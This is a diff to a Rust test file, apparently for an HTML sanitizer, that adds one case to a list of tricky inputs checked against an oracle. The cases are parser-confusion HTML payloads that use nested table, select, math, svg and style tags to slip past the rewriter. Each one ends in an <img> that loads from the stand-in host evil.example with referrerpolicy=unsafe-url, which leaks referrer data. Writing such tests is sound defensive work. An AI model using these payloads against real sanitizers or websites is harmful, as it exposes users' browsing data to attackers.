@@ -703,6 +703,8 @@ fn hard_cases_match_the_oracle() {
             "<select><li><option><math></li><style><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
         ("LEAK: <hr> and <optgroup> in a select close a <dd>, a <li> before them",
             "<select><dd><optgroup><math></dd><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style></math></optgroup><li><hr><svg></li><style><img src=https://evil.example/j referrerpolicy=unsafe-url>"),
+        ("LEAK: a table in a cell nests whatever is open in the cell (the cell's marker stays)",
+            "<table><i><td><div><table><svg></i><style><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
         ("LEAK: a frameset after <body> is dropped by the parser, not by the rewriter",
             "<body><frameset><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
         ("LEAK: a frameset after the text \"<\" is dropped by the parser, not by the rewriter",
